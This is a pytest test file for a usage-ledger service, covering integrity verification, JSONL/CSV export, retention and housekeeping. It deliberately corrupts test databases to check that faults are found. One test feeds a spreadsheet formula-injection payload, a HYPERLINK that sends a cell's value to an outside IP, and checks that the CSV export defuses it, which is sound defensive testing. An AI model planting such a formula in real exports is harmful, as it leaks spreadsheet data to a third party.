"""Verification, export and housekeeping of the ledger, on both databases; each fault is found."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import tracemalloc
from dataclasses import replace
from datetime import date, timedelta
from pathlib import Path

import pytest
from sqlalchemy import text, update
from sqlalchemy.ext.asyncio import AsyncEngine

from inkgate.service.db import ids, work
from inkgate.service.errors import Misuse
from inkgate.service.metering import housekeeping, ledger_reader
from inkgate.service.metering.models import MeterRow, PackRow
from inkgate.service.metering.reconciliation import ReconciliationState
from inkgate.service.metering.verify import Finding, LineFact, MeterFact, Verifier
from inkgate.service.orders import refunds
from inkgate.service.orders import service as orders
from inkgate.service.settings import Ledger
from inkgate.service.usage.models import RecordRow
from tests.ledger_data import START, CustomerData


async def prove(customer: CustomerData) -> list[Finding]:
    async with work.snapshot_session(customer.engine) as session:
        return await ledger_reader.verify_database(session)


async def busy_life(customer: CustomerData) -> None:
    """Packs bought, bound, spanned, expired, refunded and approved late, with calls in between."""
    other = await customer.another_app()
    ledger = customer.ledger()
    await customer.grant(5, app_id=other.app_id)
    await customer.grant(5, ends_at=START + timedelta(hours=1))
    await customer.grant(7)
    await ledger.settle(customer.call(7))
    async with work.unit_of_work(customer.engine, "test", customer.clock) as unit:
        late = await orders.place_order(unit, customer.account_id, {"general-100k": 1}, approval="operator")
    customer.clock.advance(seconds=1)
    async with work.unit_of_work(customer.engine, "test", customer.clock) as unit:
        soon = await orders.place_order(unit, customer.account_id, {"general-1m": 1}, approval="immediate")
    await ledger.settle(customer.call(10))
    async with work.unit_of_work(customer.engine, "test", customer.clock) as unit:
        await orders.approve_order(unit, late.number)
    await ledger.settle(customer.call(3))
    await ledger.settle(customer.call(1, capability="licence"))
    await ledger.settle(customer.call(0, code=500001))
    await ledger.settle(customer.call(7, app_id=other.app_id))
    async with work.unit_of_work(customer.engine, "test", customer.clock) as unit:
        again = await orders.place_order(unit, customer.account_id, {"plate-100k": 2}, approval="immediate")
        pack = next(each for each in await ledger_reader.packs(unit.session) if each.capability == "plate")
        await refunds.request_refund(unit, pack.id, decision="automatic")
    await ledger.settle(customer.call(2, capability="plate"))
    customer.clock.advance(hours=2)
    await ledger.settle(customer.call(1, app_id=other.app_id))
    assert soon.state == again.state == "active"


async def test_a_valid_ledger_passes(customer: CustomerData) -> None:
    await busy_life(customer)
    assert await customer.count() > 8
    assert await prove(customer) == []


DAMAGE = {
    "units": "UPDATE pack SET used = used - 1, exhausted_at = NULL WHERE id = (SELECT pack_id FROM usage_record "
    "WHERE units = 3)",
    "tiling": "UPDATE usage_record SET first_unit = first_unit + 1 WHERE units = 3",
    "duplicate": "UPDATE usage_record SET line = 3 WHERE line = 1",
    "sequence": "DELETE FROM usage_record WHERE code = 500001",
    "validity": "UPDATE pack SET starts_at = ends_at WHERE capability = 'plate' AND used > 0",
    "pack": "UPDATE usage_record SET app_id = (SELECT id FROM app WHERE name = 'main_app') WHERE line = 0 AND pack_id "
    "IN (SELECT id FROM pack WHERE app_id IS NOT NULL)",
}


@pytest.mark.parametrize("kind", DAMAGE)
async def test_each_fault_is_found_with_its_kind(customer: CustomerData, engine: AsyncEngine, kind: str) -> None:
    await busy_life(customer)
    statement = DAMAGE[kind]
    if kind == "validity":
        later = "ends_at + interval '1 day'" if engine.dialect.name == "postgresql" else "datetime(ends_at, '+1 day')"
        statement = statement.replace("starts_at = ends_at", f"starts_at = ends_at, ends_at = {later}")
    async with engine.begin() as connection:
        result = await connection.execute(text(statement))
        assert result.rowcount >= 1
    assert kind in {finding.kind for finding in await prove(customer)}


async def test_use_of_a_later_pack_first_is_found(customer: CustomerData) -> None:
    first, second = await customer.grant(5), await customer.grant(5)
    await customer.ledger().settle(customer.call(2))
    async with customer.engine.begin() as connection:
        await connection.execute(update(RecordRow).values(pack_id=second))
        await connection.execute(update(PackRow).where(PackRow.id == first).values(used=0))
        await connection.execute(update(PackRow).where(PackRow.id == second).values(used=2))
    found = [(finding.kind, first in finding.what) for finding in await prove(customer)]
    assert found == [("order", True), ("chain", False)]


async def test_entries_without_a_meter_are_found_on_any_day(customer: CustomerData) -> None:
    await customer.grant(50)
    for age in (400, 3, 3, 0):
        call = customer.call(1, call_id=old_id(START.date() - timedelta(days=age)))
        await customer.ledger().settle(call)
    async with customer.engine.begin() as connection:
        await connection.execute(text("UPDATE usage_record SET capability = 'stray' WHERE seq <> 2"))
    assert any(finding.what == "3 lines belong to no meter" for finding in await prove(customer))


async def test_verification_may_cover_one_capability_and_stop_early(customer: CustomerData) -> None:
    await busy_life(customer)
    async with customer.engine.begin() as connection:
        await connection.execute(text("UPDATE usage_record SET line = line + 5 WHERE capability = 'general'"))
    async with work.snapshot_session(customer.engine) as session:
        assert await ledger_reader.verify_database(session, customer.account_id, "plate") == []
        assert len(await ledger_reader.verify_database(session, customer.account_id, "general", max_findings=3)) == 3
        assert len(await ledger_reader.verify_database(session, max_findings=3)) == 3


async def test_verification_reports_its_progress(customer: CustomerData, monkeypatch: pytest.MonkeyPatch) -> None:
    await busy_life(customer)
    monkeypatch.setattr(ledger_reader, "PROGRESS_EVERY_LINES", 4)
    reported: list[int] = []
    async with work.snapshot_session(customer.engine) as session:
        assert await ledger_reader.verify_database(session, on_progress=reported.append) == []
    assert reported == list(range(4, await customer.count() + 1, 4)) != []


def test_memory_of_verification_does_not_grow_with_the_entries() -> None:
    meter, count = MeterFact("a", "licence", 40_000, 0), 40_000
    held = []
    for unique in (True, False):
        verifier = Verifier([], [meter], unique=unique)
        tracemalloc.start()
        for seq in range(1, count + 1):
            line = LineFact(f"{seq:032x}", 0, seq, START, "a", "licence", "app", None, None, 0)
            assert list(verifier.line(line)) == []
        held.append(tracemalloc.get_traced_memory()[0])
        tracemalloc.stop()
        assert list(verifier.finish()) == []
    assert held[0] < 20_000 < 1_000_000 < held[1]  # bytes


async def test_a_meter_with_a_wrong_seq_is_found(customer: CustomerData) -> None:
    await customer.grant(5)
    await customer.ledger().settle(customer.call())
    async with customer.engine.begin() as connection:
        await connection.execute(update(MeterRow).values(seq=5))
    assert [finding.kind for finding in await prove(customer)] == ["sequence"]


async def test_an_export_can_be_verified(customer: CustomerData, tmp_path: Path) -> None:
    await busy_life(customer)
    path = tmp_path / "ledger.jsonl"
    async with work.snapshot_session(customer.engine) as session:
        with path.open("w") as out:
            count = await ledger_reader.export_json(session, out, customer.account_id)
    assert count == await customer.count()
    assert ledger_reader.verify_file(path) == []
    rows = [json.loads(line) for line in path.read_text().splitlines()]
    again = [row for row in rows if row["kind"] == "line" and row["facts"]["units"] == 3]
    path.write_text("\n".join(json.dumps(row) for row in rows + again))
    assert {"duplicate", "tiling", "units"} <= {finding.kind for finding in ledger_reader.verify_file(path)}


async def test_an_export_of_a_period_is_checked_within_the_period(customer: CustomerData, tmp_path: Path) -> None:
    await busy_life(customer)
    path = tmp_path / "ledger.jsonl"
    async with work.snapshot_session(customer.engine) as session:
        with path.open("w") as out:
            count = await ledger_reader.export_json(session, out, customer.account_id, since=START + timedelta(hours=1))
    assert 0 < count < await customer.count()
    assert ledger_reader.verify_file(path) == []


async def test_an_export_as_csv(customer: CustomerData) -> None:
    await busy_life(customer)
    out = io.StringIO()
    async with work.snapshot_session(customer.engine) as session:
        count = await ledger_reader.export_csv(session, out, customer.account_id)
    rows = out.getvalue().splitlines()
    assert rows[0].startswith("call_id,line,seq,settled_at") and len(rows) == count + 1


async def test_a_request_id_is_never_a_formula_in_an_export(customer: CustomerData) -> None:
    await customer.grant(5)
    sent = '=HYPERLINK("http://192.0.2.1/?"&A1,"open")'
    await customer.ledger().settle(replace(customer.call(1), request_id=sent))
    out = io.StringIO(newline="")
    async with work.snapshot_session(customer.engine) as session:
        await ledger_reader.export_csv(session, out, customer.account_id)
    head, line = csv.reader(io.StringIO(out.getvalue(), newline=""))
    row = dict(zip(head, line, strict=True))
    assert (row["request_id"], row["settled_at"]) == ("'" + sent, START.replace(second=1).isoformat())


@pytest.mark.parametrize("content", ["", "{}", "not json", '{"kind": "ledger"}\n{"kind": "pack"}'])
def test_a_file_other_than_an_export_is_refused(tmp_path: Path, content: str) -> None:
    path = tmp_path / "file"
    path.write_text(content)
    with pytest.raises(Misuse):
        ledger_reader.verify_file(path)


def old_id(day: date) -> str:
    """A call id made on `day`."""
    return ids.first_id_of_day(day)[:14] + ids.new()[14:]


async def test_a_ledger_is_valid_after_retention(customer: CustomerData) -> None:
    today = START.date()
    await customer.grant(20)
    ledger = customer.ledger()
    for age in (30, 20, 10, 0):
        await ledger.settle(customer.call(3, call_id=old_id(today - timedelta(days=age))))
    assert await housekeeping.apply_retention(customer.engine, today - timedelta(days=15)) == 2
    assert await customer.count() == 2
    assert await prove(customer) == []
    await ledger.settle(customer.call(4, call_id=old_id(today)))
    assert await prove(customer) == []
    async with customer.engine.begin() as connection:
        await connection.execute(text("DELETE FROM usage_record WHERE units = 4"))
    assert {finding.kind for finding in await prove(customer)} == {"units", "sequence", "chain"}


async def test_a_round_of_housekeeping(customer: CustomerData) -> None:
    today = START.date()
    await customer.grant(20)
    ledger = customer.ledger()
    await ledger.settle(customer.call(1, call_id=old_id(today - timedelta(days=40))))
    await ledger.settle(customer.call(2, call_id=old_id(today + timedelta(days=1))))
    reported: list[ReconciliationState] = []
    keeper = housekeeping.Housekeeper(customer.engine, Ledger(retention_days=30), reported.append, clock=customer.clock)
    assert (await keeper.run_round()).drift == 0
    assert (await keeper.run_round()).drift == 0  # second round: nothing to do
    assert [(each.drift, each.backlog) for each in reported] == [(0, 0), (0, 0)]
    assert (await customer.count(), await prove(customer)) == (1, [])
    if customer.engine.dialect.name == "postgresql":
        query = f"SELECT count(*) FROM {housekeeping.partition(today + timedelta(days=1))}"
        async with customer.engine.connect() as connection:
            assert await connection.scalar(text(query)) == 1  # moved from the default partition
            assert await connection.scalar(text("SELECT count(*) FROM usage_record_default")) == 0


async def test_housekeeping_does_not_wait_for_a_long_read(customer: CustomerData) -> None:
    keeper = housekeeping.Housekeeper(customer.engine, Ledger(), lambda found: None, clock=customer.clock)
    await customer.grant(5)
    customer.clock.advance(days=3000)  # days that have no partition yet
    async with work.snapshot_session(customer.engine) as session:
        await ledger_reader.verify_database(session)  # the snapshot stays open and keeps its locks
        async with asyncio.timeout(10):
            assert (await keeper.run_round()).drift == 0
            await customer.ledger().settle(customer.call(0))


async def test_the_housekeeper_runs_until_it_is_closed(customer: CustomerData) -> None:
    reported: list[ReconciliationState] = []
    keeper = housekeeping.Housekeeper(customer.engine, Ledger(housekeeping_minutes=1e-4), reported.append)
    await keeper.start()
    while len(reported) < 2:
        await asyncio.sleep(0.01)
    await keeper.close()
    assert {each.drift for each in reported} == {0}
